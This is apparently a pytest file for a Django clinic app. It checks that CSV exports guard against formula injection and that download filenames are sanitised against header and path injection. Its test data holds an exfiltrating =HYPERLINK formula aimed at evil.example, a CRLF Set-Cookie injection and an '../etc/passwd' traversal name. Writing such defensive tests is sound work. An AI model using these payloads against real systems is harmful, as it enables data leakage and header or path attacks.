"""Every CSV cell has a formula guard and every download name is a safe RFC 6266 header
(issue 13, findings 9 and 10)."""

import csv
import io

import pytest
from django.urls import reverse

from imsclinic.core.downloads import safe_cell, safe_filename
from imsclinic.patients.models import Patient
from tests.factories import MembershipFactory, PatientFactory, UserFactory
from tests.factories.outcomes import course_with_sessions, scores
from tests.outcomes.conftest import improving_course  # noqa: F401

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "value, expected",
    [
        (FORMULA, "'" + FORMULA),
        ("  =1+1", "'  =1+1"),
        ("\n=cmd", "'\n=cmd"),
        ("-3.5", "-3.5"),
        (42, "42"),
    ],
)
def test_formula_guard(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.django_db
def test_analytics_csv_does_not_export_a_formula_name(client, clinic_a, olivia):
    from imsclinic.accounts.models import Role

    mallory = UserFactory(username="mallory", first_name=FORMULA, last_name="")
    MembershipFactory(user=mallory, clinic=clinic_a, role=Role.PRACTITIONER)
    course = course_with_sessions(
        patient=PatientFactory(clinic=clinic_a), practitioner=mallory, pains=[(8, 5), (6, 3)]
    )
    scores(course, "nprs", [(0, "intake", {"pain": 8}), (2, "review", {"pain": 4})])
    client.force_login(olivia)
    response = client.get(reverse("outcomes:analytics-csv"), {"instrument": "nprs"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    groups = {row[1] for row in rows if row[0] == "by_practitioner"}
    assert groups == {"'" + FORMULA}


@pytest.mark.parametrize(
    "name, expected",
    [
        ("progress-A1\r\nSet-Cookie: x=1-20260101.pdf", "progress-A1 Set-Cookie: x=1-20260101.pdf"),
        ("..\\../etc/passwd", "-..-etc-passwd"),
        ("\x00\x01", "download"),
        ("Zoé Ürünü.pdf", "Zoé Ürünü.pdf"),
    ],
)
def test_download_names_are_sanitised(name, expected):
    assert safe_filename(name) == expected


@pytest.mark.django_db
def test_a_chart_number_with_a_line_break_does_not_break_the_pdf_header(
    client,
    alice,
    improving_course,  # noqa: F811
):
    Patient.objects.filter(pk=improving_course.patient_id).update(
        chart_number="A1\r\nSet-Cookie: x=1"  # 19 of 20 characters
    )
    client.force_login(alice)
    url = reverse(
        "reports:report-pdf",
        args=[improving_course.patient.uuid, improving_course.uuid, "progress"],
    )
    response = client.get(url)
    assert response.status_code == 200
    header = response["Content-Disposition"]
    assert "\r" not in header and "\n" not in header
    assert header.startswith("attachment; filename=")
    assert "x" not in response.cookies
